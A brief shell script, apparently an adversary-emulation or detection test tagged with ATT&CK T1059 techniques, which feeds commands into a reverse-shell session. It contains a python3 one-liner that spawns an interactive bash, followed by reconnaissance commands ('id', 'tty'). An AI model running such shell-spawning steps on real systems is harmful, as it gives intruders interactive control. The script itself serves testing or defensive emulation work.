# subprocess.call starts an interactive bash directly; no terminal.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import subprocess; subprocess.call(["/bin/bash", "-i"])'
id
tty
exit
exit
TYPED
